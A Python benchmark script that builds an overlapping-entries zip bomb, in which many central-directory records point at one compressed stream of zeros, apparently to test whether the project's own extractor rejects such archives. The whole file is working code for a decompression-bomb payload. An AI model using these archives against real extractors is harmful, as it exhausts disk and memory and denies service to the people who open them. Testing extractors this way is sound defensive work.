#!/usr/bin/env python3
"""Writes an overlapping-entries zip bomb for measuring the extractor:
   python3 bench/unzip/make_bomb.py OUT.zip [ENTRIES] [MB]
One local header and one deflate stream of MB megabytes of zeros (default
100), pointed at by ENTRIES (default 50) central-directory records of other
names. A reader that does not refuse the overlap writes ENTRIES * MB."""
import struct, sys, zlib

out, n, mb = sys.argv[1], int(sys.argv[2]) if len(sys.argv) > 2 else 50, int(sys.argv[3]) if len(sys.argv) > 3 else 100
size = mb << 20
c = zlib.compressobj(9, zlib.DEFLATED, -15)
packed = b"".join(c.compress(bytes(1 << 20)) for _ in range(mb)) + c.flush()
crc = 0
for _ in range(mb):
    crc = zlib.crc32(bytes(1 << 20), crc)
name0 = b"bomb00.bin"
local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x5A21, crc, len(packed), size, len(name0), 0) + name0
central = b""
for i in range(n):
    name = b"bomb%02d.bin" % i
    central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x5A21, crc, len(packed), size,
                           len(name), 0, 0, 0, 0, 0, 0) + name
body = local + packed
end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, len(central), len(body), 0)
with open(out, "wb") as f:
    f.write(body + central + end)
print(f"{out}: {len(body + central + end)} bytes, {n} entries of {size} bytes each = {n * size} bytes declared")
